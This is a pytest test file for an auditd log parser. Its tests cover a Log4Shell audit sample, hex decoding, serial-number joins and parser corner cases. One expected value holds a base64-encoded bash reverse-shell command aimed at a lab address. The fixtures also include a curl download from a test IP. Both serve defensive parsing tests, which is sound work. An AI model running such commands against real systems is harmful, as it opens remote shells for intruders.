"""The auditd parser on OTRF's Log4Shell auoms sample and on raw auditd records joined by serial."""

from __future__ import annotations

import json
import random
import zipfile
from collections import Counter
from datetime import UTC, datetime

import pytest

from collectors import bench
from collectors.base import BadRecord, NotMyFormat
from collectors.parsers import auditd
from collectors.parsers.auditd import JOIN_WINDOW, AuditdParser, _simple_pairs, split_pairs
from store.event import Event
from tests.collectors.samples import record
from tests.helpers import shared

OTRF_ZIP = "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip"


def otrf_events() -> list[Event]:
    """Every SyslogMessage of the OTRF sample (Azure Log Analytics rows, read from the zip) parsed in order."""
    with zipfile.ZipFile(shared("otrf", OTRF_ZIP)) as archive:
        rows = archive.read(archive.namelist()[0]).decode("utf-8").splitlines()
    parser = AuditdParser()
    events: list[Event] = []
    for index, row in enumerate(rows):
        events.extend(parser.parse(record(json.loads(row)["SyslogMessage"], "otrf:log4shell", str(index))))
    return events


def test_otrf_log4shell_sample_parses_completely_with_outcomes() -> None:
    events = otrf_events()
    assert len(events) == 50
    assert len({e.id for e in events}) == 50
    assert Counter(e.get("event.outcome") for e in events) == {"success": 27, "failure": 23}
    assert {e.get("event.code") for e in events} == {"AUOMS_EXECVE"}
    assert {e.get("host.name") for e in events} == {"UBUNTU5"}


def test_otrf_reverse_shell_exec_maps_exact_fields() -> None:
    [shell] = [e for e in otrf_events() if e.get("event.sequence") == 84143]
    assert shell.timestamp == datetime(2022, 5, 11, 18, 10, 21, 990000, tzinfo=UTC)
    fields = dict(shell.fields)
    fields.pop("event.original")
    assert fields == {
        "event.kind": "event",
        "event.category": ("process",),
        "event.type": ("start",),
        "event.action": "executed",
        "event.code": "AUOMS_EXECVE",
        "event.module": "auditd",
        "event.dataset": "auditd.log",
        "event.sequence": 84143,
        "event.outcome": "success",
        "host.os.type": "linux",
        "host.name": "UBUNTU5",
        "process.pid": 17790,
        "process.parent.pid": 1340,
        "process.name": "bash",
        "process.executable": "/bin/bash",
        "process.working_directory": "/",
        # cmdline quotes the argv without escaping its own quotes; the value must survive whole
        "process.command_line": 'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}'
        '|{base64,-d}|{bash,-i}"',
        "user.id": "1001",
        "user.effective.id": "1001",
        "user.name": "tomcat",
        "related.user": ("tomcat",),
        "file.path": "/bin/bash",
        "labels.audit_key": "auoms,delete",
        "labels.syscall": "execve",
        "message": "audit AUOMS_EXECVE serial 84143 user tomcat exe /bin/bash cmd bash -c "
        '"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}" '
        "path /bin/bash success",
    }


RAW = [
    'type=SYSCALL msg=audit(1795136400.123:4242): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 ppid=812 '
    'pid=913 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key="netexec"',
    'type=EXECVE msg=audit(1795136400.123:4242): argc=3 a0="curl" a1="-sO" '
    "a2=687474703A2F2F3230332E302E3131332E35302F78",
    "type=CWD msg=audit(1795136400.123:4242): cwd=2F746D702F6D7920646972",
    'type=PATH msg=audit(1795136400.123:4242): item=0 name="/usr/bin/curl" inode=1234 nametype=NORMAL',
    "type=PROCTITLE msg=audit(1795136400.123:4242): proctitle=6375726C002D734F",
]


def test_raw_records_of_one_serial_share_the_process_context() -> None:
    parser = AuditdParser()
    events = [parser.parse(record(line, "file:/var/log/audit/audit.log", str(i)))[0] for i, line in enumerate(RAW)]
    assert [e.get("event.code") for e in events] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]
    assert all(e.get("event.sequence") == 4242 for e in events)
    assert all(e.get("process.pid") == 913 and e.get("process.executable") == "/usr/bin/curl" for e in events)
    assert all(e.get("user.audit.id") == "1000" and e.get("user.id") == "0" for e in events)
    # hex-encoded values are decoded; argv is joined, proctitle's NULs are blanks
    assert events[1].get("process.command_line") == "curl -sO http://203.0.113.50/x"
    assert events[2].get("process.working_directory") == "/tmp/my dir"
    assert events[3].get("file.path") == "/usr/bin/curl"
    assert events[4].get("process.command_line") == "curl -sO"
    assert events[0].get("event.outcome") == "success"
    assert events[0].get("labels.audit_key") == "netexec"


def test_join_is_per_source_and_bounded() -> None:
    parser = AuditdParser()
    parser.parse(record(RAW[0], "host-a"))
    [other] = parser.parse(record(RAW[1], "host-b"))
    assert other.get("process.pid") is None
    for serial in range(JOIN_WINDOW + 1):
        parser.parse(record(f"type=SYSCALL msg=audit(1795136400.000:{9000 + serial}): pid=1 comm=\"x\"", "host-a"))
    [late] = parser.parse(record(RAW[1], "host-a"))
    assert late.get("process.pid") is None  # serial 4242 fell out of the window


def test_login_record_with_address_and_failure() -> None:
    line = (
        "type=USER_LOGIN msg=audit(1795136401.000:77): pid=1500 uid=0 auid=4294967295 ses=4294967295 "
        "msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.50 terminal=sshd res=failed'"
    )
    [event] = AuditdParser().parse(record(line))
    assert event.get("event.category") == ("authentication",)
    assert event.get("event.outcome") == "failure"
    assert event.get("source.ip") == "203.0.113.50"
    assert event.get("user.name") == "root"
    assert event.get("user.audit.id") is None  # 4294967295 is "unset"


def test_split_pairs_keeps_quoted_blanks_and_unquoted_runs() -> None:
    assert split_pairs('a=1 comm="x y=z" proctitle=/bin/java -Dk=v -jar app.jar key=k') == {
        "a": "1", "comm": "x y=z", "proctitle": "/bin/java -Dk=v -jar app.jar", "key": "k",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("line", "error", "reason"),
    [
        ("Nov 20 08:00:00 host sshd[1]: Accepted password", NotMyFormat, "not a Linux audit record"),
        ("type=SYSCALL msg=audit(abc:1): pid=1", BadRecord, "valid 'audit(<epoch>:<serial>):' header"),
        ('type=SYSCALL msg=audit(1.0:1): comm="unterminated', BadRecord, "unterminated quoted value"),
        ("type=SYSCALL msg=audit(1.0:1): pid=12x", BadRecord, "key 'pid': '12x' is not a number"),
        ("type=SYSCALL msg=audit(99999999999999999999.0:1): pid=1", BadRecord, "out of range"),
    ],
)
def test_unusable_lines(line: str, error: type[Exception], reason: str) -> None:
    with pytest.raises(error, match=reason.replace("(", r"\(").replace(")", r"\)")):
        AuditdParser().parse(record(line))


def test_the_fast_path_for_plain_bodies_gives_what_the_marks_give() -> None:
    """Bodies built from tricky keys, values and separators: wherever the fast path answers, it agrees."""
    rnd = random.Random(9)
    keys = ["a", "b", "a1", "_x", "1a", "a-b", "", "pid", "comm"]
    values = ["", "x", "1", '"q"', '""', '"a b"', '"a"b"', "x=y", '"', 'x"', 'a="b"', "c\td", "\u00a0",
              "/usr/bin/x", '"(null)"', "\x1c", "\u2028", "é", '"é"', "\x7f"]
    separators = [" "] * 8 + ["  ", "\t"]
    answered = 0
    for _ in range(20_000):
        body = "".join((rnd.choice(separators) if n else rnd.choice(["", "", " "])) + rnd.choice(keys) + "="
                       + rnd.choice(values) for n in range(rnd.randrange(0, 5)))
        fast = _simple_pairs(body)
        if fast is None:
            continue
        answered += 1
        assert fast == split_pairs(body), body
    assert answered > 500  # the fast path was exercised, not just refused
    plain = 'arch=c000003e syscall=59 success=yes comm="curl" exe="/usr/bin/curl" key="netexec"'
    assert _simple_pairs(plain) == split_pairs(plain)
    assert _simple_pairs("proctitle=/usr/bin/java -jar x") is None  # auoms: blanks in an unquoted value


def _both_paths(lines: list[str], monkeypatch: pytest.MonkeyPatch) -> tuple[list[object], list[object]]:
    """What a parser makes of the lines (events, or the exception's type and text), with the fast path for
    usual bodies and with every body forced through split_pairs."""

    def run() -> list[object]:
        parser = AuditdParser()
        out: list[object] = []
        for n, line in enumerate(lines):
            try:
                [event] = parser.parse(record(line, "file:/var/log/audit/audit.log", str(n)))
            except (BadRecord, NotMyFormat, ValueError) as exc:
                out.append((type(exc).__name__, str(exc)))
            else:
                out.append((event.id, event.timestamp, list(event.fields.items())))
        return out

    fast = run()
    with monkeypatch.context() as patch:
        patch.setattr(auditd, "_simple_pairs", lambda body: None)
        general = run()
    return fast, general


HEX_AND_PIDS = [
    # unquoted hex is decoded, quoted hex-looking text is not, nor is a key quoted anywhere in the body
    'type=SYSCALL msg=audit(1795136400.1:7): pid=1 comm=6375726C exe="cafe" cwd=2F746D70 name="00" key="k"',
    'type=SYSCALL msg=audit(1795136400.1:8): pid=1 comm="x" comm=6375726C exe=00 acct=726F6F74 success=no',
    "type=USER_CMD msg=audit(1795136400.1:9): pid=2 uid=0 msg='cwd=\"/\" cmd=6C73202D6C res=success'",
    "type=EXECVE msg=audit(1795136400.1:9): argc=3 a0=6C73 a1=\"2D6C\" a2=2F746D70",
    "type=PROCTITLE msg=audit(1795136400.1:9): proctitle=6C73002D6C",
    # pids: ASCII digits become ints here, other digits and very long text are left to Event, as before
    "type=SYSCALL msg=audit(1795136400.1:10): pid=\u0661\u0662 ppid=\u0663 comm=\"x\"",
    "type=SYSCALL msg=audit(1795136400.1:11): pid=\u00b2 ppid=1 comm=\"x\"",
    "type=SYSCALL msg=audit(1795136400.1:12): pid=1 ppid=" + "9" * 30,
    "type=SYSCALL msg=audit(1795136400.1:13): pid=1 ppid=" + "9" * 5000,
    "type=SYSCALL msg=audit(1795136400.1:14): pid=12x comm=\"x\"",
    "type=SYSCALL msg=audit(1795136400.1:15): pid=1 ppid=4294967295 uid=? auid=-1 euid= addr=? key=(null)",
    # bodies the fast path declines: "=" inside a value, a doubled blank, a tab, non-ASCII text
    'type=SYSCALL msg=audit(1795136400.1:16): pid=3 comm="a=b" exe=/bin/x=y key="k"',
    'type=SYSCALL msg=audit(1795136400.1:17): pid=3  comm="x"\tkey="k" exe="/bin/\u00e9"',
]


def test_fast_and_general_paths_give_the_same_events(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every sample, the benchmark's records and the hex/pid corner cases: field for field, order included."""
    lines = RAW + HEX_AND_PIDS + bench.make_lines("auditd", 200, seed=3)
    lines += [
        "type=USER_LOGIN msg=audit(1795136401.000:77): pid=1500 uid=0 auid=4294967295 ses=4294967295 "
        "msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.50 terminal=sshd res=failed'"
    ]
    assert sum(_simple_pairs(line.split("): ", 1)[1]) is not None for line in lines) > 200  # both paths are fed
    fast, general = _both_paths(lines, monkeypatch)
    assert fast == general


def test_hex_values_and_pids(monkeypatch: pytest.MonkeyPatch) -> None:
    fast, _ = _both_paths(HEX_AND_PIDS, monkeypatch)
    events = [dict(item[2]) if len(item) == 3 else item for item in fast]
    assert events[0]["process.name"] == "curl"
    assert events[0]["process.executable"] == "cafe"  # quoted: not hex text
    assert events[0]["process.working_directory"] == "/tmp"
    assert events[0]["file.path"] == "00"
    assert events[1]["process.name"] == "6375726C"  # comm is quoted once in the body: never decoded
    assert "process.executable" not in events[1]  # 00 decodes to a blank, stripped: no value
    assert events[1]["user.name"] == "root"
    assert events[2]["process.command_line"] == "ls -l"
    assert events[3]["process.command_line"] == "ls 2D6C /tmp"
    assert events[4]["process.command_line"] == "ls -l"
    assert events[5]["process.pid"] == 12
    assert events[5]["process.parent.pid"] == 3
    assert events[6] == ("BadRecord", "field 'process.pid': '\u00b2' is not an integer")
    assert events[7]["process.parent.pid"] == int("9" * 30)
    assert events[8][0] == "ValueError"  # what int() says beyond the digits limit, as before
    assert events[9] == ("BadRecord", "key 'pid': '12x' is not a number")
    assert "process.parent.pid" not in events[10] and "user.id" not in events[10]
    assert events[10]["labels.audit_key"] == "(null)"
    assert events[11]["process.executable"] == "/bin/x=y"
    assert events[12]["process.executable"] == "/bin/\u00e9"


def test_join_picks_the_context_of_the_first_record_in_the_documented_order() -> None:
    """The window keeps a serial's first fields and picks the context from them when a second record comes."""
    parser = AuditdParser()
    [first] = parser.parse(record(RAW[0], "host-a", "0"))
    parser.parse(record(RAW[0].replace(":4242)", ":4243)").replace("pid=913", "pid=914"), "host-a", "1"))
    [path] = parser.parse(record(RAW[3], "host-a", "2"))
    joined = [name for name in path.fields if name not in dict(parser.parse(record(RAW[3], "host-b", "3"))[0].fields)]
    assert joined == ["process.pid", "process.parent.pid", "process.name", "process.executable", "user.id",
                      "user.audit.id", "user.effective.id"]  # fmt: skip
    assert all(path.get(name) == first.get(name) for name in joined)
    [proctitle] = parser.parse(record(RAW[4], "host-a", "4"))  # the picked context, now with the command line
    assert proctitle.get("process.pid") == 913 and proctitle.get("process.command_line") == "curl -sO"
